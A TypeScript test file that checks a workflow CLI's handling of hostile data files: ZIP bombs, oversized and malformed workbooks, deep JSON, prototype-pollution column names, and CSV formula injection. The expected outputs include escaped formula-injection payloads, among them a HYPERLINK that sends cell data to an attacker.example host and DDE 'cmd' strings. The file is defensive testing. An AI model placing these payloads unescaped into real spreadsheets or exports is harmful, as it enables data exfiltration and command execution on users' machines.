// Hostile case-data files (CSV, JSON, XLSX) through `flowwright simulate --data`: each row names the input, the
// code it must end with, and runs in its own process within a stated heap and time (test/hostile/harness.ts).
import { readFileSync, rmSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { writeLargeInputs } from '../../scripts/gen-hostile';
import { parseCsv } from '../../shared/data';
import { expectRefused, expectSucceeded, fixture, outputFolder, outputPath, runCli } from './harness';

interface Row {
  input: string;
  data: string;
  refused: string;
  heapMb?: number;
}

const rows: Row[] = [
  { input: 'a workbook whose directory claims 4 GB', data: fixture('declared-4gb.xlsx'), refused: 'FW_DATA_TOO_LARGE' },
  {
    input: 'a real ZIP bomb: 150 MB of sheet in 150 kB',
    data: `${outputFolder}/bomb-150mb.xlsx`,
    refused: 'FW_DATA_TOO_LARGE',
  },
  { input: 'CSV text named .xlsx', data: fixture('not-a-workbook.xlsx'), refused: 'FW_DATA_UNREADABLE' },
  {
    input: 'JSON records nested 100,000 deep',
    data: `${outputFolder}/deep-records.json`,
    refused: 'FW_DATA_UNREADABLE',
  },
  { input: 'JSON records cut off', data: fixture('truncated.records.json'), refused: 'FW_DATA_UNREADABLE' },
];

/** A cell a spreadsheet would run as a formula: a formula lead that is not a plain number. */
const formulaLike = (cell: unknown) =>
  typeof cell === 'string' && /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$/.test(cell);

describe('hostile case data through the command line', () => {
  beforeAll(() => {
    writeLargeInputs(outputFolder, ['bomb-150mb.xlsx', 'deep-records.json']);
  });

  for (const { input, data, refused, heapMb = 256 } of rows)
    it(`${input}: ${refused} within ${heapMb} MB and 60 s`, { timeout: 120_000 }, async () => {
      const run = await runCli(['simulate', fixture('runnable.flow.json'), '--data', data], { heapMb });
      expectRefused(run, refused);
    });

  it(
    'formula cells: the exceptions work list writes them as text, within 256 MB and 60 s',
    { timeout: 120_000 },
    async () => {
      const out = outputPath('formula-exceptions.csv');
      rmSync(out, { force: true });
      const run = await runCli([
        'simulate',
        fixture('formula-data.flow.json'),
        '--data',
        fixture('formula-cells.csv'),
        '--key',
        'id',
        '--exceptions',
        out,
        '--json',
      ]);
      expectSucceeded(run);
      const table = parseCsv(readFileSync(out));
      const keys = table.rows.map((row) => row.cells[table.columns.indexOf('key')]);
      expect(keys).toEqual([
        '\'=HYPERLINK("http://attacker.example/?leak="&B2,"Open")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
      ]);
      expect(table.rows.flatMap((row) => row.cells).filter(formulaLike)).toEqual([]);
    },
  );

  it(
    'columns called __proto__, constructor and prototype: read as data, within 256 MB and 60 s',
    { timeout: 120_000 },
    async () => {
      const run = await runCli([
        'simulate',
        fixture('runnable.flow.json'),
        '--data',
        fixture('prototype-columns.csv'),
        '--json',
      ]);
      expectSucceeded(run);
      expect(JSON.parse(run.stdout).cases.started).toBe(2);
    },
  );
});
